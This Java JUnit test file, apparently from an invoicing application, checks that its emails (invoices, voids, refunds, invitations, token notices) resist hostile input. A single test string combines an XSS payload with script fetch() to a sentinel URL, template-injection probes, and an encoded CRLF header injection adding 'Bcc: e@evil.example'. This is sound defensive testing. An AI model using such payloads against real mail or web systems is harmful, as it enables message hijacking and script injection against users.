package com.quittance.injection;

import static org.assertj.core.api.Assertions.assertThat;

import com.quittance.TestHouse;
import com.quittance.WebServer;
import com.quittance.http.Http;
import com.quittance.tenancy.Ability;
import com.quittance.tenancy.PersonId;
import com.quittance.tenancy.Principal;
import com.quittance.tenancy.Role;
import com.quittance.tenancy.Tenancy.TokenRequest;
import com.quittance.tenancy.Tenant;
import jakarta.mail.internet.MimeMessage;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.json.JsonMapper;

/**
 * The letters that {@link HostileTextEverywhereTest} does not wait for, with one text that is a bit
 * of everything.
 */
class HostileLettersTest {

  private static final JsonMapper JSON = new JsonMapper();

  @TempDir private Path folder;

  @Test
  void voidRefundedSentAgainInvitedAndTold() throws Exception {
    try (var sentinel = new Sentinel();
        var house = TestHouse.open(folder);
        var server = WebServer.start(house.house())) {
      var plain = write(house, server, "Boulangerie Ndiaye");
      var shapes = new HashSet<>();
      for (var mail : plain) {
        shapes.add(Map.entry(MailShape.kind(mail), MailShape.of(mail)));
      }
      var text =
          ("\"'></td></style><img src=%1$s1><script>fetch('%1$s2')</script>&lt;b&gt; ${7*7} {{7}} {0}"
                  + " {seller} $1 =?utf-8?Q?=0D=0ABcc:_e@evil.example?= Bcc: e@evil.example")
              .formatted(sentinel.url());

      var mails = write(house, server, text);

      assertThat(kinds(mails)).isEqualTo(kinds(plain));
      for (var mail : mails) {
        var kind = MailShape.kind(mail);
        assertThat(shapes).as(kind).contains(Map.entry(kind, MailShape.of(mail)));
        assertThat(MailShape.part(mail, 0)).as(kind).contains(text);
        assertThat(MailShape.shown(mail)).as(kind).contains(text);
        assertThat(mail.getAllRecipients()).as(kind).hasSize(1);
        assertThat(mail.getFrom()).as(kind).hasSize(1);
        assertThat(mail.getReplyTo()).as(kind).hasSize(1);
      }
      assertThat(sentinel.visits()).isZero();
    }
  }

  private static List<String> kinds(List<MimeMessage> mails) throws Exception {
    var kinds = new ArrayList<String>();
    for (var mail : mails) {
      kinds.add(MailShape.kind(mail));
    }
    assertThat(kinds)
        .containsExactlyInAnyOrder(
            "invoice", "invoice", "voided", "refunded", "invitation", "token-created");
    return kinds.stream().sorted().toList();
  }

  /** A company of that name has much to do with a client and a member of that name. */
  private static List<MimeMessage> write(TestHouse house, WebServer server, String text) {
    var seller = HostileSeller.named(text, house, server);
    var tenant = seller.tenant();
    var http = seller.http();
    var client = post(http, "clients", Map.of("name", text, "email", "awa@ndiaye.example"));
    var line = Map.of("description", text, "quantity", "1", "unit_price", 1_000);
    var invoice = Map.of("client_id", client, "lines", List.of(line));

    post(http, "invoices/" + post(http, "invoices", invoice) + "/void", Map.of("reason", text));
    var paid = post(http, "invoices", invoice);
    house.work();
    post(http, "invoices/" + paid + "/send", Map.of());
    var cash = Map.of("gateway", "manual", "amount", 500);
    var payment = post(http, "invoices/" + paid + "/payments", cash);
    post(http, "payments/" + payment + "/refunds", Map.of("amount", 100, "reason", text));
    var email = "p%s@sahel.example".formatted(tenant.id().value());
    var member = post(http, "members", Map.of("name", text, "email", email, "role", "owner"));
    tokenOf(house, tenant, new PersonId(UUID.fromString(member)));
    house.work();
    return house.takeMails();
  }

  private static String post(Http http, String path, Map<String, ?> body) {
    var answer = http.post("/api/v1/" + path, JSON.writeValueAsString(body));
    assertThat(answer.status()).as(answer.text()).isBetween(200, 202);
    return answer.id();
  }

  private static void tokenOf(TestHouse house, Tenant tenant, PersonId person) {
    var all = List.of(Ability.EVERYTHING);
    house
        .house()
        .tenancy()
        .createToken(
            house.scope(tenant),
            new Principal(tenant.id(), "person:" + person, person, null, Role.OWNER, all),
            new TokenRequest("test", all, null));
  }
}
